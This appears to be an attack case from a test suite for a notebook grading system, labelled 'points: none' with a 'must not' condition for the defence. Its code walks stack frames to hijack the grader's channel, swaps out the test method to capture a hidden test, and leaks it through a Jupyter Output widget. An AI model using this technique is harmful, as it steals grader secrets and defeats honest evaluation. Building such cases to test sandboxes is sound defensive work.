# attack: widgets of an early cell - an Output widget among them - get the stolen test as their state
# points: none
# must not: put a test into widgets that feedback shows

# %% before row_stats
import comm, sys
out = comm.create_comm(target_name="jupyter.widget", comm_id="out", data={"state": {
    "_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": [], "msg_id": ""}})
from IPython.display import display
display({"application/vnd.jupyter.widget-view+json": {"model_id": "out", "version_major": 2, "version_minor": 0}, "text/plain": "w"}, raw=True)
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "channel"):
    frame = frame.f_back
stolen = []

async def take(self, request):
    self.channel.send({"ready": request["token"]})
    stolen.append(self.channel.receive()[0])
    return {"how": "exited", "threads": 0}, b""

type(frame.f_locals["self"])._test = take

# %% layer_norm
text = "lo" + f"ot: {stolen}"
out.send({"method": "update", "state": {"outputs": [{"output_type": "stream", "name": "stdout", "text": text}]}})
out.send({"method": "update", "state": {"msg_id": None}})
print(text)
